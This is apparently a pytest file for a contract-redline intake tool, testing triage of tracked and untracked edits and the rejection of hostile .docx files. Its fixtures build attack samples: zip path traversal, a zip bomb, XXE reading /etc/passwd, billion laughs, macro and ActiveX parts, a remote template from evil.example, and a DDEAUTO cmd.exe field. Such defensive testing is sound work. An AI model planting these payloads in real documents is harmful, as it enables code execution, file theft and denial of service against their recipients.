"""Counterparty redlines in: safe intake of hostile files, tracked and untracked edits, triage."""

from __future__ import annotations

import io
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from assembler.deals.layout import Workspace
from assembler.errors import IntakeError
from assembler.intake.safety import open_untrusted
from assembler.intake.tracked_changes import changes, paragraphs

from .conftest import CORPUS, files_under, git, run_cli, set_deal
from .docx_edits import EditableDocx
from .tracked_changes import assert_redline_between, pandoc_accept, pandoc_reject


@pytest.fixture
def sent(repo_workspace: Workspace) -> Workspace:
    """acme with round 1 of its Co-Sell Agreement committed (the draft we sent)."""
    assert run_cli(repo_workspace, "build", "acme").exit_code == 0
    return repo_workspace


def their_file(ws: Workspace, tmp_path: Path) -> Path:
    ours = (ws.deal_dir("acme") / "co-sell-agreement.docx").read_bytes()
    doc = EditableDocx(ours)
    doc.tracked_replace("for a Sourced Opportunity", "10%", "12%")
    doc.tracked_append(
        "The appointment is non-exclusive.",
        " Company shall not partner with any competing firm in the target markets.",
    )
    doc.tracked_delete_paragraph("each Party's total aggregate liability arising out of")
    doc.tracked_move(
        "Either Party may terminate this Agreement for convenience", "Subject to the agreement to arbitrate"
    )
    doc.tracked_bold("This Agreement is non-exclusive.", "non-exclusive")
    doc.untracked_replace("Each Registered Opportunity is protected for", "ninety (90)", "sixty (60)")
    path = tmp_path / "Acme comments.docx"
    path.write_bytes(doc.save())
    return path


def test_returned_redline_is_triaged_clause_by_clause(sent: Workspace, tmp_path: Path) -> None:
    from assembler.intake.triage import ingest

    path = their_file(sent, tmp_path)
    result = ingest(sent, "acme", path, received_from="Pat Counsel <pat@partner.example>")
    found = {(item.clause_id, item.kind): (item.klass, item.reason) for item in result.items}
    assert found == {
        ("co-sell-incentives", "replacement"): (
            "negotiable",
            "change to a clause with approved fallback wording",
        ),
        ("co-sell-appointment", "insertion"): (
            "critical",
            "red-flag language introduced (broad-exclusivity: a promise not to partner with competitors)",
        ),
        ("limitation-of-liability", "deletion"): (
            "critical",
            "the limitation of liability cap was deleted (uncapped-liability)",
        ),
        ("termination", "move"): ("negotiable", "paragraph moved out of this clause"),
        ("governing-law", "move"): ("negotiable", "paragraph moved into this clause"),
        ("exclusivity", "formatting"): ("acceptable", "formatting only"),
        ("deal-registration", "untracked"): (
            "critical",
            "untracked edit (the text differs from what we sent with no tracked change)",
        ),
    }
    stealth = next(i for i in result.items if i.kind == "untracked")
    assert "ninety (90)" in stealth.before and "sixty (60)" in stealth.after
    fee = next(i for i in result.items if i.clause_id == "co-sell-incentives")
    assert fee.claimed == "Pat Counsel (Partner LLP) on 2026-11-20T10:00:00Z"  # as claimed, not trusted

    report = result.report_path.read_text()
    assert report.startswith("# Triage: Co-Sell Agreement, round 1 as returned by the counterparty\n")
    assert "| Clause | Change | Class | Reason | Suggested response | Claimed by |" in report
    assert (
        "| Co-Sell Incentives | replacement: \u2212\u201c10%\u201d +\u201c12%\u201d | negotiable |" in report
    )
    assert (
        "| Deal Registration | untracked: \u2212\u201cninety (90)\u201d +\u201csixty (60)\u201d | critical |"
        in report
    )
    assert result.received_path.read_bytes() == path.read_bytes()
    message = git(sent, "log", "-1", "--format=%B")
    for trailer in (
        "Deal: acme",
        "Document: co-sell-agreement",
        "Round: 1",
        "Received-From: Pat Counsel <pat@partner.example>",
    ):
        assert f"\n{trailer}\n" in message
    import hashlib

    assert f"\nReceived-SHA256: {hashlib.sha256(path.read_bytes()).hexdigest()}\n" in message
    assert git(sent, "show", "--name-only", "--format=", "HEAD").split() == [
        "agreements/acme/triage/co-sell-agreement.r1-counterparty.docx",
        "agreements/acme/triage/co-sell-agreement.r1-counterparty.md",
    ]
    assert git(sent, "status", "--porcelain") == ""


def test_cli_prints_the_summary(sent: Workspace, tmp_path: Path) -> None:
    result = run_cli(sent, "ingest", "acme", str(their_file(sent, tmp_path)))
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "7 change(s): 3 critical, 3 negotiable, 1 acceptable."
    assert "  critical: Deal Registration: untracked edit" in result.stdout


def test_a_file_identical_to_what_we_sent_has_no_changes(sent: Workspace, tmp_path: Path) -> None:
    copy = tmp_path / "unchanged.docx"
    copy.write_bytes((sent.deal_dir("acme") / "co-sell-agreement.docx").read_bytes())
    result = run_cli(sent, "ingest", "acme", str(copy))
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == "No changes: the file is byte-identical to the round we sent."


def test_below_minimum_number_is_critical(sent: Workspace, tmp_path: Path) -> None:
    from assembler.intake.triage import ingest

    doc = EditableDocx((sent.deal_dir("acme") / "co-sell-agreement.docx").read_bytes())
    doc.tracked_replace("for a Sourced Opportunity", "10%", "6%")
    path = tmp_path / "low.docx"
    path.write_bytes(doc.save())
    items = ingest(sent, "acme", path).items
    assert [(i.clause_id, i.klass, i.reason) for i in items] == [
        ("co-sell-incentives", "critical", "referral_fee_pct moved below our minimum (7)")
    ]


def test_typo_fix_is_acceptable(sent: Workspace, tmp_path: Path) -> None:
    from assembler.intake.triage import ingest

    doc = EditableDocx((sent.deal_dir("acme") / "co-sell-agreement.docx").read_bytes())
    doc.tracked_replace("The appointment is non-exclusive.", "non-exclusive.", "non-exclusive;")
    path = tmp_path / "typo.docx"
    path.write_bytes(doc.save())
    items = ingest(sent, "acme", path).items
    assert [(i.clause_id, i.klass, i.reason) for i in items] == [
        ("co-sell-appointment", "acceptable", "typo, punctuation or spacing")
    ]


# --- hostile files ------------------------------------------------------------------------------------------


def minimal_docx(
    extra: dict[str, bytes] | None = None,
    document: bytes | None = None,
    content_types: bytes | None = None,
    rels: bytes | None = None,
) -> dict[str, bytes]:
    parts = {
        "[Content_Types].xml": content_types
        or (
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.'
            b'wordprocessingml.document.main+xml"/></Types>'
        ),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document
        or (
            b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            b'main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'
        ),
    }
    if rels is not None:
        parts["word/_rels/document.xml.rels"] = rels
    parts.update(extra or {})
    return parts


def zipped(parts: dict[str, bytes] | list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            package.writestr(name, data)
    return out.getvalue()


W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><w:document ' + W_NS + b"><w:body><w:p><w:r><w:t>&lol3;"
    b"</w:t></w:r></w:p></w:body></w:document>"
)
HOSTILE = {
    "traversal": (
        zipped(minimal_docx({"../../evil.txt": b"x"})),
        "zip entry '../../evil.txt' contains '..' (path traversal)",
    ),
    "absolute path": (
        zipped(minimal_docx({"/etc/cron.d/x": b"x"})),
        "zip entry '/etc/cron.d/x' has an absolute path",
    ),
    "backslash": (
        zipped(minimal_docx({"word\\..\\x.xml": b"x"})),
        "zip entry 'word\\\\..\\\\x.xml' contains a backslash",
    ),
    "duplicate entry": (
        zipped([*minimal_docx().items(), ("WORD/document.xml", b"<x/>")]),
        "duplicate zip entry 'WORD/document.xml'",
    ),
    "zip bomb": (
        zipped(minimal_docx({"word/bomb.xml": b"<a>" + b" " * 20_000_000 + b"</a>"})),
        "zip entry 'word/bomb.xml' has a compression ratio of",
    ),
    "doctype": (
        zipped(
            minimal_docx(
                document=b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">'
                b"<w:document " + W_NS + b"/>"
            )
        ),
        "word/document.xml contains a DOCTYPE or ENTITY declaration",
    ),
    "billion laughs": (
        zipped(minimal_docx(document=LAUGHS)),
        "word/document.xml contains a DOCTYPE or ENTITY declaration",
    ),
    "macro part": (
        zipped(minimal_docx({"word/vbaProject.bin": b"\x00macro"})),
        "it contains macros (word/vbaProject.bin)",
    ),
    "docm content type": (
        zipped(
            minimal_docx(
                content_types=b'<?xml version="1.0"?><Types xmlns="http://schemas.'
                b'openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            )
        ),
        "it is a macro-enabled document (.docm)",
    ),
    "external template": (
        zipped(
            minimal_docx(
                rels=b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://'
                b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            )
        ),
        "relationship attachedTemplate to 'http://evil.example/t.dotm'",
    ),
    "dde field": (
        zipped(
            minimal_docx(
                document=b'<?xml version="1.0"?><w:document ' + W_NS + b"><w:body><w:p><w:r>"
                b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
                b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
                b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                b"</w:body></w:document>"
            )
        ),
        "word/document.xml contains a DDEAUTO field",
    ),
    "activex": (
        zipped(minimal_docx({"word/activeX/activeX1.bin": b"\x00"})),
        "it contains an ActiveX control (word/activeX/activeX1.bin)",
    ),
    "not a zip": (b"%PDF-1.7 not a docx", "not a .docx (not a zip package)"),
}


def test_hostile_files_are_rejected_within_a_cpu_budget(tmp_path: Path) -> None:
    """Rejection costs little CPU: a process limited to 10 s of CPU time (not wall-clock) rejects them all."""
    paths = []
    for number, (data, _) in enumerate(HOSTILE.values()):
        paths.append(tmp_path / f"{number}.docx")
        paths[-1].write_bytes(data)
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_CPU, (10, 10))  # past it the kernel kills the process\n"
        "from assembler.errors import IntakeError\n"
        "from assembler.intake.safety import open_untrusted\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        open_untrusted(open(path, 'rb').read(), 'hostile.docx')\n"
        "    except IntakeError as exc:\n"
        "        print(exc)\n"
        "    else:\n"
        "        print('accepted')\n"
    )
    process = subprocess.run(
        [sys.executable, "-c", script, *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    assert process.returncode == 0, process.stderr
    lines = process.stdout.splitlines()
    assert len(lines) == len(HOSTILE)
    for line, (_, reason) in zip(lines, HOSTILE.values(), strict=True):
        assert line.startswith(f"hostile.docx: rejected: {reason}"), line


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_files_are_rejected_in_little_memory_and_leave_the_repository_unchanged(
    sent: Workspace, tmp_path: Path, name: str
) -> None:
    data, reason = HOSTILE[name]
    path = tmp_path / "hostile.docx"
    path.write_bytes(data)
    before = files_under(sent.root)
    head = git(sent, "rev-parse", "HEAD")
    tracemalloc.start()
    result = run_cli(sent, "ingest", "acme", str(path))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Error: hostile.docx: rejected: {reason}"), result.stderr
    assert result.stderr.endswith("; nothing was stored\n") and result.stderr.count("\n") == 1
    # Well under the 20 MB the zip bomb unpacks to: no hostile entry is ever decompressed or parsed.
    assert peak < 16 * 1024 * 1024
    assert files_under(sent.root) == before and git(sent, "rev-parse", "HEAD") == head


def test_real_word_files_pass_intake_and_their_tracked_changes_are_read() -> None:
    assert len(list(CORPUS.glob("*.docx"))) == 6  # committed under tests/fixtures: never skipped
    for path in sorted(CORPUS.glob("*.docx")):
        open_untrusted(path.read_bytes(), path.name)  # lawyer-made files are accepted
    expected = open_untrusted((CORPUS / "python-redlines-expected_redline.docx").read_bytes(), "redline")
    found = changes(expected.document, "word/document.xml", set())
    assert [c.kind for c in found] == [
        "deletion",
        "replacement",
        "deletion",
        "replacement",
        "replacement",
        "insertion",
    ]
    import lxml.etree as etree

    from assembler.intake.tracked_changes import is_mark, text_of
    from assembler.word.package import W

    ins = list(expected.document.iter(f"{{{W}}}ins"))
    dels = list(expected.document.iter(f"{{{W}}}del"))
    assert len(ins) == 5 and len(dels) == 5  # one insertion is a new paragraph mark
    assert [text_of(e) for e in ins if not is_mark(e)] == [
        "nothing",
        "production",
        "how awesome test file is",
        "Test file",
    ]
    assert [text_of(e) for e in dels] == [
        " for testing",
        "not testing",
        "don\u2019t ",
        "test",
        "what happened here",
    ]
    # Accept-all of the real redline gives the modified document's text, reject-all the original's: by our
    # resolver and by pandoc's, which the redline tests also use as their oracles.
    from assembler.intake.tracked_changes import resolved

    def texts(root: etree._Element) -> list[str]:
        return [p.text for p in paragraphs(root, set())]

    redline = (CORPUS / "python-redlines-expected_redline.docx").read_bytes()
    modified_docx = (CORPUS / "python-redlines-modified.docx").read_bytes()
    original_docx = (CORPUS / "python-redlines-original.docx").read_bytes()
    modified = open_untrusted(modified_docx, "m").document
    original = open_untrusted(original_docx, "o").document
    assert texts(resolved(expected.document, accept=True)) == texts(modified)
    assert texts(resolved(expected.document, accept=False)) == texts(original)
    assert_redline_between(redline, original_docx, modified_docx)
    assert pandoc_accept(redline) != pandoc_reject(redline)  # the oracle sees the changes at all


def test_intake_rejects_without_reading_a_huge_declared_entry() -> None:
    with pytest.raises(IntakeError, match="unpacks to"):
        data = zipped(minimal_docx({"word/big.xml": b"<a/>" + b"\n" * (31 * 1024 * 1024)}))
        open_untrusted(data, "big.docx")


def test_changes_in_tables_and_headers_are_found_and_placed(
    repo_workspace: Workspace, tmp_path: Path
) -> None:
    from assembler.intake.triage import ingest

    ws = repo_workspace
    set_deal(ws, "emberline", {"stage": "term-sheet"})
    assert run_cli(ws, "build", "emberline").exit_code == 0
    ours = (ws.deal_dir("emberline") / "term-sheet.docx").read_bytes()
    table = EditableDocx(ours)
    table.tracked_replace(
        "of net revenue attributable", "18%", "14%"
    )  # a term-sheet table cell; our minimum is 15%
    header = EditableDocx(table.save(), part="word/header1.xml")
    header.tracked_append("DRAFT", " (Partner comments)")
    path = tmp_path / "term sheet back.docx"
    path.write_bytes(header.save())
    items = {(i.clause_id, i.kind, i.place): (i.klass, i.reason) for i in ingest(ws, "emberline", path).items}
    assert items[("term-sheet-key-terms", "replacement", "Key Terms")] == (
        "critical",
        "oem.royalty_pct moved below our minimum (15)",
    )
    header_items = [key for key in items if key[2].endswith("(header1)")]
    assert len(header_items) == 1 and items[header_items[0]][0] == "negotiable"
